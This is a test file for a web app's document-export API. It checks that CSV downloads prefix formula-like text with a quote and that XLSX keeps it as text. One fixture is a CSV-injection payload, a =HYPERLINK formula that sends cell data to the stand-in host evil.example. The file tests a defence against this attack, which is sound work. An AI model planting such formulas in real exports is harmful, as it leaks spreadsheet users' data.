// CSV formula injection: text from a document that a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) is
// written with a leading ' in every CSV download; plain numbers stay numbers; XLSX keeps such text as text.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultAnalysis } from '../../src/store/analysis.js';
import type { Store } from '../../src/store/database.js';
import { storeDocument } from '../../src/store/documents.js';
import { createApp } from '../../src/web/app.js';
import { makeDisclosure, modelBytes, DEFAULT_ROWS } from '../portal/support/fixtures.js';
import { openTestStore } from '../portal/support/stores.js';
import { parseCsv } from './support.js';

const UNIT = '=HYPERLINK("http://evil.example/?q="&A1,"点击")';
const LABELS = ['@SUM(1+1)', '+1+2', '-2+3', '\t=1+1', '\r=1+1'];

describe('CSV downloads neutralise formulas', () => {
  let store: Store;
  let app: ReturnType<typeof createApp>;
  beforeAll(async () => {
    store = await openTestStore('pglite');
    app = createApp({ store, analysis: defaultAnalysis });
    const rows = DEFAULT_ROWS.map((r, i) => (i >= 2 && i - 2 < LABELS.length ? { ...r, label: LABELS[i - 2] } : r));
    const model = makeDisclosure({ unit: UNIT, year: 2023, rows });
    await storeDocument(store, {
      model,
      findings: defaultAnalysis.audit(model),
      source: { file: 'x.json', bytes: modelBytes(model) },
    });
    const other = makeDisclosure({ unit: '测试县财政局', year: 2023 });
    await storeDocument(store, { model: other, findings: [], source: { file: 'y.json', bytes: modelBytes(other) } });
  });
  afterAll(async () => store?.close());

  const csv = async (url: string) => {
    const res = await app.request(url);
    expect(res.status, url).toBe(200);
    return parseCsv(await res.text());
  };

  it.each([
    '/api/documents?format=csv',
    '/api/export/documents.csv',
    '/api/figures?format=csv',
    '/api/compare?ids=1,2&format=csv',
  ])('%s: the unit name starts with a quote', async (url) => {
    const cells = (await csv(url)).flat();
    expect(cells.some((c) => c.startsWith(`'${UNIT}`))).toBe(true);
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?![\d.]+$)/.test(c))).toEqual([]);
  });

  it.each(['/api/documents/1/facts?format=csv', '/api/export/facts.csv', '/api/facts?format=csv&detail=1&rows=all'])(
    '%s: row labels start with a quote, amounts stay numbers',
    async (url) => {
      const rows = await csv(url);
      const cells = rows.flat();
      for (const label of LABELS) expect(cells, label).toContain(`'${label}`);
      expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?![\d.]+$)/.test(c))).toEqual([]);
      // an amount column holds plain decimals (no quote added)
      const amountCol = rows[0].findIndex((h) => h === 'amount_wan' || h === '金额（万元）');
      expect(amountCol).toBeGreaterThanOrEqual(0);
      expect(rows.slice(1).every((r) => /^-?\d+(\.\d+)?$/.test(r[amountCol]))).toBe(true);
    },
  );

  it('XLSX keeps the text as a string cell, not a formula', async () => {
    const res = await app.request('/api/documents/1/facts?format=xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const values: unknown[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) values.push(cell.formula);
        else values.push(cell.value);
      }),
    );
    expect(values).toContain('@SUM(1+1)');
    expect(values).toContain('+1+2');
  });
});
